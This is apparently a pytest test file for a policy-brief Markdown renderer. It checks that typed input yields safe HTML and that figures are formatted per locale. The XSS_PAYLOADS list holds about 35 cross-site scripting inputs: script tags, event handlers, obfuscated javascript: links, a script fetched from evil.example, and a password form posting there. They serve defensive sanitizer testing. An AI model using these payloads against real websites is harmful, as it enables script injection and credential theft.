"""Sections rendered from Markdown: safe HTML whatever is typed, and quoted figures."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from policy_briefs.render import plain_text, quoted_names, render

FIGURES = {
    "mentors_trained_total": {"value": 1234, "as_of": "2026-06-30", "unit": "count", "label": "x"},
    "mentor_continuation_rate": {"value": 82.5, "as_of": None, "unit": "percent", "label": "y"},
}

#: what people (or an attacker with a policy author's account) might type
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](%6A%61vascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "title" onclick="alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "![x](https://evil.example/tracker.png)",
    '![x](x" onerror="alert(1))',
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<div class="pb-figure" id="main" onclick="alert(1)">hi</div>',
    '<span class="evil" style="position:fixed">x</span>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name="password"></form>',
    '<a href="https://ok.example" target="_blank">x</a>',
    "# Heading <img src=x onerror=alert(1)>",
    "{{ figure: <script>alert(1)</script> }}",
    '{{ figure: x" onclick="alert(1) }}',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]

#: a URL's scheme (RFC 3986); an address without one is relative, on the platform itself
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
SAFE_SCHEMES = {"http", "https", "mailto"}
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "a", "span", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Elements(HTMLParser):
    """Every element and attribute of a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_nothing_typed_becomes_a_script_a_handler_or_a_foreign_load(payload):
    html = str(render(payload, FIGURES, "fr").html)
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            assert name in {"href", "title", "rel", "class", "id", "start"}, (name, html)
            if name == "href":
                # as a browser reads it: tabs and newlines dropped, then a scheme or none
                scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value).strip())
                assert scheme is None or scheme.group(1).lower() in SAFE_SCHEMES, html
            if name == "class":
                assert value in {"pb-figure", "pb-figure-unknown"}, html
            if name == "id":
                assert value.startswith("pb-"), html
    assert "<script" not in html.lower()


def test_raw_html_is_shown_as_text():
    html = str(render("<b>bold?</b>", FIGURES, "en").html)
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html


def test_markdown_makes_the_usual_elements():
    html = str(render("## Why\n\n**Six** months, _one_ [duo](https://duo.example).", {}, "en").html)
    assert '<h3 id="pb-why">Why</h3>' in html  # one level down: the page has its h2s
    assert "<strong>Six</strong>" in html and "<em>one</em>" in html
    assert 'href="https://duo.example"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_heading_ids_stay_unique():
    html = str(render("## Aim\n\n## Aim", {}, "en", id_prefix="pb-s1-").html)
    assert 'id="pb-s1-aim"' in html and 'id="pb-s1-aim-2"' in html


def test_a_figure_is_shown_in_the_language_of_the_brief():
    text = "{{ figure: mentors_trained_total }} mentors; {{figure:mentor_continuation_rate}} stay."
    fr = render(text, FIGURES, "fr")
    assert '<span class="pb-figure">1\u202f234</span>' in str(fr.html)
    assert "82,5&nbsp;%" in str(fr.html)  # nh3 writes the no-break space as an entity
    assert fr.used == ["mentors_trained_total", "mentor_continuation_rate"]
    assert "1.234" in str(render(text, FIGURES, "nl").html)
    assert "1,234" in str(render(text, FIGURES, "en").html)


def test_an_unknown_figure_is_reported_and_left_visible():
    rendered = render("We trained {{ figure: mentors_traind }} mentors.", FIGURES, "en")
    assert rendered.unknown == ["mentors_traind"]
    assert '<span class="pb-figure-unknown">{{ figure: mentors_traind }}</span>' in str(
        rendered.html
    )


def test_a_placeholder_in_code_is_text_not_a_quote():
    assert quoted_names("Write `{{ figure: name }}` to quote {{ figure: real_one }}.") == [
        "real_one"
    ]


def test_plain_text_drops_the_markdown():
    text = plain_text("## Why\n\n**{{ figure: mentors_trained_total }}** & more", FIGURES, "en")
    assert text.split() == ["Why", "1,234", "&", "more"]
